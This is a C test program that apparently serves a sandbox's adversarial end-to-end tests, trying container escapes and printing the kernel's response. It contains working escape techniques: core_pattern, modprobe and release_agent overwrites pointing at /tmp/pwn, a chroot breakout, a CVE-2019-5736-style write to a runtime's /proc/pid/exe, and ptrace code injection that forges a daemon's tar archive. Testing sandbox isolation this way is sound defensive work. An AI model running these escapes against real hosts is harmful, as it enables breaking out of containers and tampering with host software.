/* Attacker program for the adversarial e2e tests: built static on the host, copied into a sandbox
 * and run there. Each subcommand tries one class of escape and prints what the kernel answered,
 * one "name errno-name" line per attempt ("name OK" when the call succeeded). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <sys/mman.h>
#include <sys/user.h>
#include <time.h>
#include <unistd.h>

static void report(const char *name, long rc) {
  if (rc < 0) printf("%s %s\n", name, strerrorname_np(errno));
  else printf("%s OK\n", name);
  fflush(stdout);
}

static long try_open(const char *path, int flags) {
  int fd = open(path, flags, 0600);
  if (fd >= 0) close(fd);
  return fd;
}

static long try_write(const char *path, const char *data) {
  int fd = open(path, O_WRONLY);
  if (fd < 0) return -1;
  long n = write(fd, data, strlen(data));
  int e = errno;
  close(fd);
  errno = e;
  return n;
}

static int syscalls(void) {
  report("mount_proc", mount("proc", "/mnt", "proc", 0, NULL));
  report("mount_sysfs", mount("sysfs", "/mnt", "sysfs", 0, NULL));
  report("mount_tmpfs", mount("tmpfs", "/mnt", "tmpfs", 0, NULL));
  report("remount_root_rw", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
  report("remount_proc_rw", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
  report("umount_proc", umount2("/proc", MNT_DETACH));
  report("umount_busybox", umount2("/.sbx/busybox", MNT_DETACH));
  report("fsopen", syscall(SYS_fsopen, "proc", 0));
  report("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 0));
  report("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp"));
  report("unshare_user", unshare(CLONE_NEWUSER));
  report("unshare_mnt", unshare(CLONE_NEWNS));
  report("unshare_user_mnt", unshare(CLONE_NEWUSER | CLONE_NEWNS));
  report("unshare_cgroup", unshare(CLONE_NEWCGROUP));
  report("clone3", syscall(SYS_clone3, NULL, 0));
  report("setns", syscall(SYS_setns, open("/proc/1/ns/mnt", O_RDONLY), 0));
  report("init_module", syscall(SYS_init_module, "\x7f" "ELF", 4, ""));
  int kfd = open("/.sbx/busybox", O_RDONLY);
  report("finit_module", syscall(SYS_finit_module, kfd, "", 0));
  report("delete_module", syscall(SYS_delete_module, "ext4", O_NONBLOCK));
  report("keyctl", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3, 0));
  report("add_key", syscall(SYS_add_key, "user", "sbx", "x", 1, -3));
  report("bpf", syscall(SYS_bpf, 0 /* BPF_MAP_CREATE */, NULL, 0));
  char attr[128] = {0};
  report("perf_event_open", syscall(SYS_perf_event_open, attr, 0, -1, -1, 0));
  report("userfaultfd", syscall(SYS_userfaultfd, 0));
  report("io_uring_setup", syscall(SYS_io_uring_setup, 1, attr));
  report("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, attr, O_RDONLY));
  report("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
  report("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0x4321fedc, NULL));
  report("iopl", syscall(SYS_iopl, 3));
  report("sethostname", sethostname("pwned", 5));
  report("settimeofday", syscall(SYS_settimeofday, NULL, NULL));
  report("mknod_block", mknod("/tmp/sda", S_IFBLK | 0600, makedev(8, 0)));
  report("mknod_mem", mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1)));
  report("mknod_kmsg", mknod("/tmp/kmsg", S_IFCHR | 0600, makedev(1, 11)));
  report("open_dev_sda", try_open("/dev/sda", O_RDONLY));
  report("open_dev_vda", try_open("/dev/vda", O_RDONLY));
  report("open_dev_mem", try_open("/dev/mem", O_RDONLY));
  report("open_dev_kmsg", try_open("/dev/kmsg", O_RDONLY));
  report("write_core_pattern", try_write("/proc/sys/kernel/core_pattern", "|/tmp/pwn"));
  report("write_sysrq", try_write("/proc/sysrq-trigger", "h"));
  report("write_modprobe", try_write("/proc/sys/kernel/modprobe", "/tmp/pwn"));
  report("write_uevent_helper", try_write("/sys/kernel/uevent_helper", "/tmp/pwn"));
  report("write_sys_class", try_write("/sys/class/net/lo/mtu", "1000"));
  report("write_cgroup_procs", try_write("/sys/fs/cgroup/cgroup.procs", "1"));
  report("write_cgroup_parent_procs", try_write("/sys/fs/cgroup/../cgroup.procs", "1"));
  report("write_cgroup_release_agent", try_write("/sys/fs/cgroup/release_agent", "/tmp/pwn"));
  report("write_busybox", try_open("/.sbx/busybox", O_WRONLY));
  report("write_init", try_open("/.sbx/init", O_WRONLY));
  report("write_proc1_exe", try_open("/proc/1/exe", O_WRONLY));
  report("write_self_exe", try_open("/proc/self/exe", O_WRONLY));
  report("ptrace_attach_init", ptrace(PTRACE_ATTACH, 1, NULL, NULL));
  return 0;
}

/* Kills or traces a host pid: outside the sandbox's pid namespace it must not exist. */
static int hostpid(pid_t pid) {
  report("kill_host_pid", kill(pid, 0));
  report("ptrace_host_pid", ptrace(PTRACE_ATTACH, pid, NULL, NULL));
  return 0;
}

/* The classic chroot escape: chroot deeper, climb out with .., chroot to what we reached. */
static int chroot_escape(void) {
  mkdir("/tmp/jail", 0755);
  report("chroot_jail", chroot("/tmp/jail"));
  for (int i = 0; i < 64; i++) chdir("..");
  report("chroot_dot", chroot("."));
  return execl("/.sbx/busybox", "cat", "/etc/hostname", "/proc/1/cmdline", (char *)NULL);
}

static int read_file(const char *path, char *buf, size_t n) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) return -1;
  ssize_t r = read(fd, buf, n - 1);
  close(fd);
  if (r < 0) return -1;
  buf[r] = 0;
  return (int)r;
}

/* CVE-2019-5736: catch the runtime's own process as it enters the sandbox (`crun exec`) and open
 * its binary, through /proc/<pid>/exe, for writing. Runs for `secs` seconds. */
static int exe_watch(int secs) {
  time_t end = time(NULL) + secs;
  long seen = 0, denied = 0, foreign = 0, opened_ro = 0, opened_wr = 0, wrote = 0;
  pid_t self = getpid();
  char first[256] = "";
  while (time(NULL) < end) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      pid_t pid = atoi(e->d_name);
      if (pid <= 1 || pid == self) continue;
      char p[64], target[256];
      snprintf(p, sizeof p, "/proc/%d/exe", pid);
      ssize_t n = readlink(p, target, sizeof target - 1);
      seen++;
      if (n < 0) {
        /* The runtime keeps itself undumpable while it is in the sandbox: its exe cannot even be named. */
        if (errno == EACCES) denied++;
        target[0] = 0;
      } else target[n] = 0;
      if (n >= 0 && (strstr(target, "/.sbx/") || strstr(target, "/usr/bin/") || strstr(target, "/bin/") || !strcmp(target, "/probe"))) continue;
      foreign++;
      if (!first[0]) snprintf(first, sizeof first, "%s", target);
      int fd = open(p, O_RDONLY);
      if (fd >= 0) { opened_ro++; close(fd); }
      fd = open(p, O_WRONLY);
      if (fd >= 0) {
        opened_wr++;
        if (write(fd, "#!/bin/sh\n", 10) > 0) wrote++;
        close(fd);
      }
    }
    if (d) closedir(d);
  }
  printf("seen %ld denied %ld foreign %ld opened_ro %ld opened_wr %ld wrote %ld first %s\n", seen, denied, foreign, opened_ro, opened_wr, wrote, first[0] ? first : "-");
  return 0;
}

/* Runs one syscall in a stopped tracee: `syscall; int3` at its rip, registers set, continue to the trap. */
static long remote_syscall(pid_t pid, struct user_regs_struct *saved, long nr, long a1, long a2, long a3, long a4, long a5, long a6) {
  struct user_regs_struct r = *saved;
  r.rax = nr; r.orig_rax = -1; r.rdi = a1; r.rsi = a2; r.rdx = a3; r.r10 = a4; r.r8 = a5; r.r9 = a6; r.rip = saved->rip;
  if (ptrace(PTRACE_SETREGS, pid, NULL, &r) < 0) return -1;
  int status;
  do {
    /* Stops for other signals (the SIGSTOPs of attaching) are swallowed until our int3 traps. */
    if (ptrace(PTRACE_CONT, pid, NULL, NULL) < 0) return -1;
    if (waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status)) return -1;
  } while (WSTOPSIG(status) != SIGTRAP);
  if (ptrace(PTRACE_GETREGS, pid, NULL, &r) < 0) return -1;
  return (long)r.rax;
}

/* Makes `pid` write `len` bytes of `buf` to its own stdout, whatever kind of file that is. */
static long inject_write(pid_t pid, const char *buf, long len) {
  int status;
  if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0) { printf("attach %s\n", strerrorname_np(errno)); return -1; }
  if (waitpid(pid, &status, __WALL) < 0) { printf("wait %s\n", strerrorname_np(errno)); return -1; }
  struct user_regs_struct saved;
  if (ptrace(PTRACE_GETREGS, pid, NULL, &saved) < 0) { printf("getregs %s\n", strerrorname_np(errno)); return -1; }
  /* syscall (0f 05) then int3 (cc) */
  if (ptrace(PTRACE_POKETEXT, pid, (void *)saved.rip, (void *)0xcccccccccccc050fL) < 0) { printf("poketext %s\n", strerrorname_np(errno)); return -1; }
  long size = (len + 4095) & ~4095L;
  long addr = remote_syscall(pid, &saved, SYS_mmap, 0, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (addr < 0 && addr > -4096) { printf("mmap %ld\n", addr); return -1; }
  for (long off = 0; off < len; off += 8) {
    long word = 0;
    memcpy(&word, buf + off, len - off < 8 ? len - off : 8);
    if (ptrace(PTRACE_POKEDATA, pid, (void *)(addr + off), (void *)word) < 0) { printf("poke %lx %s\n", addr, strerrorname_np(errno)); return -1; }
  }
  long done = 0;
  while (done < len) {
    long n = remote_syscall(pid, &saved, SYS_write, 1, addr + done, len - done, 0, 0, 0);
    if (n <= 0) { printf("write %ld\n", n); break; }
    done += n;
  }
  /* A clean exit, so the daemon takes what was written as the whole archive. */
  remote_syscall(pid, &saved, SYS_exit_group, 0, 0, 0, 0, 0, 0);
  return done;
}

/* Forges what the daemon's archive helper sends for `leasefile`: a write lease on that file makes
 * the helper block in open() before it writes a byte; then we find it, write our own tar into its
 * stdout (the daemon's socket) and make it exit cleanly, as if that was the archive. */
static int hijack(const char *tarfile, const char *leasefile, int secs) {
  static char tarbuf[1 << 20];
  int tfd = open(tarfile, O_RDONLY);
  if (tfd < 0) { perror("open tar"); return 2; }
  ssize_t tlen = read(tfd, tarbuf, sizeof tarbuf);
  close(tfd);
  signal(SIGIO, SIG_IGN);
  int lfd = open(leasefile, O_RDWR);
  if (lfd < 0 || fcntl(lfd, F_SETLEASE, F_WRLCK) < 0) { printf("lease %s\n", strerrorname_np(errno)); return 2; }
  printf("armed\n");
  fflush(stdout);
  pid_t self = getpid();
  time_t end = time(NULL) + secs;
  while (time(NULL) < end) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
      pid_t pid = atoi(e->d_name);
      if (pid <= 1 || pid == self) continue;
      char p[64], cmd[4096], sc[256];
      snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
      int n = read_file(p, cmd, sizeof cmd);
      if (n <= 0) continue;
      for (int i = 0; i < n; i++) if (!cmd[i]) cmd[i] = ' ';
      if (strncmp(cmd, "tar -c -f - -- ", 15)) continue; /* the helper, once it is tar */
      snprintf(p, sizeof p, "/proc/%d/syscall", pid);
      if (read_file(p, sc, sizeof sc) <= 0 || atoi(sc) != SYS_openat) continue; /* not blocked on our file yet */
      kill(pid, SIGSTOP);
      long w = inject_write(pid, tarbuf, tlen);
      close(lfd);
      printf("injected %ld of %zd\n", w, tlen);
      return w == tlen ? 0 : 1;
    }
    if (d) closedir(d);
    usleep(2000);
  }
  printf("timeout\n");
  return 1;
}
int main(int argc, char **argv) {
  if (argc < 2) return 2;
  if (!strcmp(argv[1], "syscalls")) return syscalls();
  if (!strcmp(argv[1], "hostpid") && argc > 2) return hostpid(atoi(argv[2]));
  if (!strcmp(argv[1], "chroot")) return chroot_escape();
  if (!strcmp(argv[1], "exe-watch") && argc > 2) return exe_watch(atoi(argv[2]));
  if (!strcmp(argv[1], "hijack") && argc > 4) return hijack(argv[2], argv[3], atoi(argv[4]));
  if (!strcmp(argv[1], "ids")) { printf("uid %d euid %d\n", getuid(), geteuid()); return 0; }
  return 2;
}
